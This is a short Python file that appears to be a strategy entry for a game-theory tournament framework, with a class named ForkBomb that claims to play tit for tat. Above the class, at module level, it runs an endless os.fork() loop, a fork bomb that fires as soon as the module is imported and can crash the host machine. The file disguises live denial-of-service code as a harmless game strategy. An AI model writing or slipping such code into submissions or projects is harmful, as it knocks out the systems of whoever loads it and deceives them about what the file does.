"""It starts processes without end."""

import os

from secdilemma import RESTRAIN, strategy

while True:
    os.fork()


@strategy(school="hostile")
class ForkBomb:
    """It plays tit for tat."""

    def begin(self):
        return RESTRAIN

    def respond(self, mind):
        return mind

    def interpret(self, mind, own, seen):
        return seen
